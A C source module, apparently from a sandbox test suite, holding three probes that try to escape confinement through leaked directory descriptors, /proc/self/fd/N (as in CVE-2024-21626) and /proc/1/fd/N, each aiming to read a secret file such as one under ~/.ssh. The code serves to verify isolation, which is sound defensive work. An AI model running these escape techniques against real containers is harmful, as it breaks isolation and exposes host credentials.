/* A folder left open leads out by "..": CVE-2024-21626 did it with the current folder /proc/self/fd/N. */
#include "attack.h"

enum { LAST = 1024 };

static int by_openat(const struct scene *s, const struct attack *a)
{
	struct fact key;
	char path[1200];

	(void)a;
	(void)snprintf(path, sizeof(path), "../../../../../../../../../..%s", fact_key(s, &key));
	for (int fd = 3; fd < LAST; fd++) {
		int file = openat(fd, path, O_RDONLY | O_CLOEXEC);
		if (file >= 0)
			return judge_secret(s, file, "an open folder");
	}
	return refused("no open folder leads there");
}

static int by_chdir(const struct scene *s, const struct attack *a)
{
	struct fact key;
	char path[1200], folder[64];

	(void)a;
	(void)snprintf(path, sizeof(path), "../../../../../../../../../..%s", fact_key(s, &key));
	for (int fd = 3; fd < LAST; fd++) {
		(void)snprintf(folder, sizeof(folder), "/proc/self/fd/%d", fd);
		if (chdir(folder) < 0)
			continue;
		int file = open(path, O_RDONLY | O_CLOEXEC);
		if (file >= 0)
			return judge_secret(s, file, folder);
	}
	return refused("no /proc/self/fd/N leads there");
}

/* PID 1 may hold handles of the host's folders, as runc's init did. */
static int by_init(const struct scene *s, const struct attack *a)
{
	struct fact key;
	char path[1200];

	(void)a;
	for (int fd = 0; fd < 64; fd++) {
		(void)snprintf(path, sizeof(path), "/proc/1/fd/%d/../../../../../../../../../..%s", fd,
			       fact_key(s, &key));
		int file = open(path, O_RDONLY | O_CLOEXEC);
		if (file >= 0)
			return judge_secret(s, file, path);
	}
	return refused("no /proc/1/fd/N leads there");
}

static const struct attack rows[] = {
	{"fd-folder-openat", "does not inherit a folder that leads to ~/.ssh", by_openat, .stage = STAGE_FDS},
	{"fd-folder-chdir", "cannot leave through /proc/self/fd/N as in CVE-2024-21626", by_chdir, .stage = STAGE_FDS},
	{"fd-folder-init", "cannot leave through /proc/1/fd/N", by_init, CONTROL_ROOT, STAGE_FDS},
};
ATTACKS("fd", rows);
